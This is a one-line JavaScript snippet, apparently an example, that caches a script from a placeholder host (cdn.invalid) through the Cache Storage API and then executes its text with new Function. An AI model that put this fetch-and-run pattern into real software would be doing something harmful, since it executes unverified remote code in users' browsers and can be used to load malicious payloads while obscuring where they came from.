const c = await caches.open('v1'); await c.add('https://cdn.invalid/x.js'); const r = await c.match('https://cdn.invalid/x.js'); new Function(await r.text())();
